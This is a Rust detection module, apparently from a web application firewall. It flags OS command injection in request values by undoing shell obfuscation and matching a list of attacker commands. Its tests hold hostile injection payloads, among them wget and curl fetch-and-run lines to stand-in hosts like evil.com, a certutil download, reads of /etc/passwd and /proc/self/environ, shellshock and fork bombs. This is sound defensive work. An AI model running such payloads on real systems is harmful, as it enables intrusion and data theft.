//! Operating-system command injection: a command separator or
//! substitution followed by a command, read the way a shell reads it —
//! quotes and backslashes inside words removed (`w'h'o'am'i`, `c\at`),
//! `$IFS` and `${IFS}` for blanks, globs for paths (`/???/b??h`) — and
//! Windows' `cmd` and PowerShell forms.

/// Commands an attacker runs first: to look around, to fetch, to connect
/// back, to run a script. Unix and Windows.
const COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "cat",
    "ls",
    "pwd",
    "ps",
    "netstat",
    "ifconfig",
    "ip",
    "env",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "dash",
    "csh",
    "busybox",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "lua",
    "awk",
    "sed",
    "echo",
    "printf",
    "chmod",
    "chown",
    "rm",
    "mv",
    "cp",
    "touch",
    "mkfifo",
    "kill",
    "nohup",
    "crontab",
    "at",
    "sleep",
    "ping",
    "nslookup",
    "dig",
    "host",
    "tftp",
    "ftp",
    "scp",
    "ssh",
    "base64",
    "xxd",
    "head",
    "tail",
    "more",
    "less",
    "grep",
    "find",
    "tar",
    "gzip",
    "lwp-download",
    "lynx",
    "fetch",
    "useradd",
    "passwd",
    "sudo",
    "su",
    "systemctl",
    "cmd",
    "cmd.exe",
    "powershell",
    "powershell.exe",
    "pwsh",
    "certutil",
    "bitsadmin",
    "regedit",
    "reg",
    "net",
    "net1",
    "wmic",
    "mshta",
    "rundll32",
    "regsvr32",
    "cscript",
    "wscript",
    "schtasks",
    "tasklist",
    "taskkill",
    "ipconfig",
    "systeminfo",
    "type",
    "dir",
    "copy",
    "del",
    "start",
    "set",
    "for",
    "whoami.exe",
    "timeout",
    "vssadmin",
    "icacls",
    "who",
    "dd",
    "ifconfig",
    "iwr",
    "iex",
    "invoke-webrequest",
    "invoke-expression",
    "$shell",
    "$bash",
    "bcdboot",
    "diskpart",
    "bitsadmin",
    "ftp.exe",
    "nslookup.exe",
    "ssh-keygen",
];

/// Commands that are also English words or short enough to be anything
/// (`set`, `type`, `cat`, `id`): after a separator they count only with
/// shell-like arguments, or alone at the end.
const WEAK: &[&str] = &[
    "id", "cat", "ls", "ps", "env", "ip", "sh", "nc", "set", "type", "start", "for", "at", "more",
    "less", "head", "tail", "find", "host", "kill", "touch", "copy", "del", "dir", "echo", "sleep",
    "net", "reg", "su", "rm", "mv", "cp", "ftp", "ping", "php", "node", "lua", "sed", "awk",
    "grep", "fetch", "timeout", "printf", "tar", "dig", "passwd", "who", "dd",
];

fn commands() -> &'static std::collections::HashSet<&'static str> {
    static SET: std::sync::OnceLock<std::collections::HashSet<&'static str>> =
        std::sync::OnceLock::new();
    SET.get_or_init(|| COMMANDS.iter().copied().collect())
}

fn is_weak(w: &str) -> bool {
    let base = w
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(w)
        .to_ascii_lowercase();
    WEAK.contains(&base.as_str()) && !w.contains(['/', '\\'])
}

fn is_command(w: &str) -> bool {
    if w.is_empty() || w.len() > 64 || !w.as_bytes()[0].is_ascii() {
        return false;
    }
    let w = w.trim_start_matches(['/', '\\']);
    // `/bin/cat`, `/usr/bin/wget`, `C:\Windows\System32\cmd.exe`.
    let base = w.rsplit(['/', '\\']).next().unwrap_or(w);
    let mut buf = [0u8; 32];
    if base.len() > buf.len() {
        return false;
    }
    for (d, c) in buf.iter_mut().zip(base.bytes()) {
        *d = c.to_ascii_lowercase();
    }
    let Ok(base) = std::str::from_utf8(&buf[..base.len()]) else {
        return false;
    };
    let base = base.strip_suffix(".exe").unwrap_or(base);
    // `python3.10`, `perl5`: the interpreter with its version.
    let bare = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let set = commands();
    set.contains(base) || (bare.len() >= 4 && bare != base && set.contains(bare))
}

/// The shell's reading of a word: quotes and backslashes removed, `$IFS`
/// and `${IFS}` and `$@` for nothing.
fn unshell(v: &str) -> String {
    if !v
        .bytes()
        .any(|c| matches!(c, b'$' | b'\'' | b'"' | b'\\' | b'^'))
    {
        return v.to_string();
    }
    let v = v
        .replace("${IFS}", " ")
        .replace("$IFS$9", " ")
        .replace("$IFS", " ")
        .replace("$@", "")
        .replace("$()", "")
        .replace("$!", "")
        .replace("$-", "")
        .replace(['\'', '"', '\\', '^'], "");
    // `cat$u /etc$u/passwd`: an unset one-letter variable inside a word.
    let b = v.as_bytes();
    let mut out = String::with_capacity(v.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$'
            && b.get(i + 1).is_some_and(u8::is_ascii_lowercase)
            && !b.get(i + 2).is_some_and(u8::is_ascii_alphanumeric)
            && i > 0
            && b[i - 1].is_ascii_alphanumeric()
        {
            i += 2;
            continue;
        }
        let ch = v[i..].chars().next().unwrap_or(' ');
        out.push(ch);
        i += ch.len_utf8();
    }
    out
}

/// Words that run the next word (`time curl`, `nohup sh`).
fn skip_wrappers(s: &str) -> &str {
    let mut s = s.trim_start();
    for _ in 0..3 {
        let w = first_word(s).unwrap_or("");
        if ["time", "nohup", "sudo", "exec", "env", "command", "nice"]
            .iter()
            .any(|x| w.eq_ignore_ascii_case(x))
            && s.len() > w.len()
        {
            s = s[w.len()..].trim_start();
        } else {
            break;
        }
    }
    s
}

/// Whether `v` (decoded) injects a command, and why.
pub fn check(v: &str) -> Option<&'static str> {
    let b = v.as_bytes();
    if !b.iter().any(|c| {
        matches!(
            c,
            b';' | b'|'
                | b'&'
                | b'`'
                | b'$'
                | b'\n'
                | b'{'
                | b'<'
                | b'>'
                | b'\''
                | b'"'
                | b'\\'
                | b'^'
        )
    }) {
        // Without a shell's separators only a command with arguments
        // (`cat /etc/passwd`, `time curl x`), a globbed path, or a batch
        // `if` or `for` can be here.
        let first = v.split_ascii_whitespace().next().unwrap_or("");
        if glob_path(first) {
            return Some("globbed command path");
        }
        let wrapper = [
            "time", "nohup", "sudo", "exec", "env", "command", "nice", "if", "for",
        ]
        .iter()
        .any(|w| first.eq_ignore_ascii_case(w));
        if !(wrapper || is_command(first)) {
            return None;
        }
    }
    if v.contains("() {") && v.contains(';') {
        return Some("shellshock function");
    }
    if v.contains(":(){")
        || v.contains(":|:&")
        || (v.contains("(){") && v.contains('|') && v.contains('&'))
    {
        return Some("fork bomb");
    }
    // Mail and other line protocols: a new line, then a command
    // (`\r\nMAIL FROM:`, `\r\nRCPT TO:`).
    if let Some(p) = v.find('\n') {
        let next = v[p + 1..].trim_start().to_ascii_uppercase();
        if [
            "MAIL FROM",
            "RCPT TO",
            "HELO ",
            "EHLO ",
            "DATA",
            "APOP ",
            "USER ",
            "PASS ",
            "LIST",
            "RETR ",
            "HELP",
            "QUIT",
            "AUTH ",
            "STARTTLS",
        ]
        .iter()
        .any(|c| next.starts_with(c))
        {
            return Some("protocol command after a new line");
        }
    }
    // Brace expansion: `{,ifconfig}`, `{cat,/etc/passwd}`.
    if let Some(p) = v.find('{') {
        let inner = &v[p + 1..];
        let inner = &inner[..inner.find('}').unwrap_or(inner.len())];
        if inner.contains(',')
            && inner
                .split(',')
                .any(|w| is_command(&unshell(w).replace('$', "")))
        {
            return Some("brace expansion");
        }
    }
    // Command substitution: `` `id` ``, `$(id)`, `${`id`}`.
    for open in ["`", "$(", "${"] {
        if let Some(p) = v.find(open) {
            let inner = &v[p + open.len()..];
            let word = unshell(inner);
            let first = word
                .trim_start_matches(['`', '(', '{', ' '])
                .split(|c: char| {
                    !(c.is_ascii_alphanumeric() || matches!(c, '/' | '\\' | '.' | '-' | '_'))
                })
                .next()
                .unwrap_or("");
            if is_command(first) {
                return Some("command substitution");
            }
        }
    }
    // After a separator: `; id`, `| cat /etc/passwd`, `&& wget`, a newline.
    let unshelled = unshell(v);
    let s = skip_wrappers(&unshelled).to_string();
    let starts_with_command = first_word(&s).is_some_and(|w| is_command(w) && has_argument(&s));
    // `time curl x`, `nohup wget …`: a wrapper running a command.
    if s.len() < unshelled.trim_start().len()
        && first_word(&s).is_some_and(|w| is_command(w) && !is_weak(w))
    {
        return Some("wrapped command");
    }
    // A command spelled to get past filters (`'i'fconfig`, `w\ho"am"i`).
    if unshelled.len() < v.len() && first_word(&s).is_some_and(|w| is_command(w) && !is_weak(w)) {
        return Some("obfuscated command");
    }
    for (i, c) in s.char_indices() {
        if matches!(c, ';' | '|' | '&' | '\n' | '`') || (c == '$' && s[i..].starts_with("$(")) {
            let rest = s[i + c.len_utf8()..].trim_start_matches(['|', '&', ' ', '\t', '(', '$']);
            if let Some(w) = first_word(rest) {
                let args = &rest[rest.find(w).map_or(0, |p| p + w.len())..];
                if is_command(w)
                    && (!is_weak(w) || args.trim().is_empty() || args_look_like_shell(args))
                {
                    return Some("command after a separator");
                }
                if glob_path(w) {
                    return Some("globbed command path");
                }
            }
        }
    }
    // A whole value that is a command with arguments: `cat /etc/passwd`,
    // `busybox -c "echo hi"`, `ping`` 127.0.0.1`.
    if starts_with_command {
        let w = first_word(&s).unwrap_or("");
        let args = &s[s.find(w).map_or(0, |p| p + w.len())..];
        let strong_args = args.contains(['/', '\\', '>', '<', '`'])
            || args.contains("://")
            || args
                .split_whitespace()
                .next()
                .is_some_and(|w| w.parse::<std::net::IpAddr>().is_ok());
        // An interpreter named with its version (`python3.10 x`).
        let versioned = w.contains('.') && w.chars().last().is_some_and(|c| c.is_ascii_digit());
        if w.contains(['/', '\\'])
            || versioned
            || (is_weak(w) && strong_args)
            || (!is_weak(w) && args_look_like_shell(args))
        {
            return Some("command");
        }
    }
    if first_word(&s).is_some_and(glob_path) {
        return Some("globbed command path");
    }
    // Windows `for` loops and `cmd /c`.
    let l = s.to_ascii_lowercase();
    let l = l.split_whitespace().collect::<Vec<_>>().join(" ");
    if l.contains("for ") && l.contains(" in (") && (l.contains(" do ") || l.contains(")do ")) {
        return Some("cmd loop");
    }
    // Batch conditionals: `IF EXIST x CMD`, `if "%VAR%"=="a" echo`.
    if l.starts_with("if ") || l.starts_with("if/") {
        let cond = [
            "exist ",
            "defined ",
            "errorlevel",
            "==",
            " geq ",
            " leq ",
            " gtr ",
            " lss ",
            " neq ",
            " equ ",
            "/i ",
        ]
        .iter()
        .any(|c| l.contains(c));
        let act = ["echo", "cmd", "goto", "set ", "(", " do ", "call "]
            .iter()
            .any(|c| l.contains(c));
        if cond && (act || l.contains('%')) {
            return Some("batch conditional");
        }
    }
    if [
        "cmd /c",
        "cmd.exe /c",
        "cmd /k",
        "powershell -",
        "powershell.exe -",
        "pwsh -",
    ]
    .iter()
    .any(|p| l.contains(p))
    {
        return Some("shell invocation");
    }
    None
}

fn first_word(s: &str) -> Option<&str> {
    let s = s.trim_start();
    let w = s
        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '<' | '>' | '`' | ')'))
        .next()?;
    (!w.is_empty()).then_some(w)
}

fn has_argument(s: &str) -> bool {
    let s = s.trim_start();
    s.split_whitespace().nth(1).is_some() || s.contains('`')
}

/// Arguments a command gets in an attack and a sentence does not: an
/// option, an absolute path, a URL, a redirection, a quoted script.
fn args_look_like_shell(a: &str) -> bool {
    let a = a.trim();
    a.starts_with('-')
        || a.starts_with('/')
        || a.starts_with('`')
        || a.contains(" -")
        || a.contains("http://")
        || a.contains("https://")
        || a.contains(['>', '<'])
        || a.split_whitespace()
            .any(|w| w.starts_with('/') && w.len() > 1)
        || a.split_whitespace()
            .next()
            .is_some_and(|w| w.parse::<std::net::IpAddr>().is_ok())
}

/// `/???/b??h`, `/usr/[a-z]in/bash`, `/etc/[p]asswd`: a path spelled with
/// shell wildcards.
fn glob_path(w: &str) -> bool {
    w.starts_with('/')
        && w.contains(['?', '*', '['])
        && w.matches('/').count() >= 2
        && !w.contains(['=', '&', '.', '_'])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn injections_are_found() {
        for v in [
            "; id",
            "127.0.0.1 | cat /etc/passwd",
            "x && wget http://evil/x.sh",
            "`whoami`",
            "$(curl http://a/b|sh)",
            "${`id`}",
            "; w'h'o'am'i",
            ";c\\at${IFS}/etc/passwd",
            "/???/b??h",
            "/usr/[a-z]in/bash",
            "cat /proc/self/environ",
            "() { :; }; /bin/bash -c id",
            ":(){ :|:& };:",
            "& FOR %~ IN (a,b,c)DO cmd",
            "; certutil -urlcache -f http://evil.com/payload.exe",
            "busybox -c \"echo hi\"",
            "ping`` 127.0.0.1",
            "http://a/upload.php;lwp-download http://b/appa.jpg",
            "| powershell -enc AAAA",
            "host=www.google.com;c$!at+/et$!c/pas$!swd",
            "'i'fconfig",
            "{,ifconfig}",
            "time curl coreruleset.org",
            "python3.10 cmd",
            "pi$()ng 127.0.0.1",
            "\r\nMAIL FROM:<a@b.com>",
            "IF EXIST C:\\pagefile.sys (CMD) ELSE (CMD)",
            "f(){ f|f& };f",
        ] {
            let v = crate::decode::normalize(v, true);
            assert!(check(&v).is_some(), "missed: {v}");
        }
    }

    #[test]
    fn ordinary_values_pass() {
        for v in [
            "Nguyễn Văn A",
            "cat",
            "find a doctor",
            "Sở Y tế; Sở Tài chính",
            "A & B company",
            "echo",
            "ls",
            "tin tức | sự kiện",
            "set up a meeting",
            "type of service",
            "?",
            "price 100$",
            "start date: 2024",
            "BASE; SET SWAROVSKI",
            "O'keefe's",
            "if you want, call us (024) 3822",
            "time to go",
            "Hội nghị\r\nDanh sách",
            "SET 8 -MINI AS",
            "/SEARCH/SUPPLIES?SEARCH_SUBMIT=&Q=STAR COPPER BLANK 1/2\"&ORDER=MOST_RELEVANT",
            "Hà Nội; cat and dog",
        ] {
            assert!(check(v).is_none(), "false positive: {v}");
        }
    }
}
